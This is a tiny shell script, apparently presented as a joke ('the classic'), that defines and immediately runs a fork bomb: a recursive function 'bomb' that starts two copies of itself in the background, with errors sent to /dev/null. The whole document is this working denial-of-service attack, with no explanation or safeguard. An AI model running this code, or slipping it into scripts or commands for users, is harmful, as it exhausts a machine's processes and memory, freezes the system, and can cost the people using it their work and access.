# The classic: each of it starts two more, and nobody waits for any.
bomb() { bomb | bomb & }
bomb 2> /dev/null
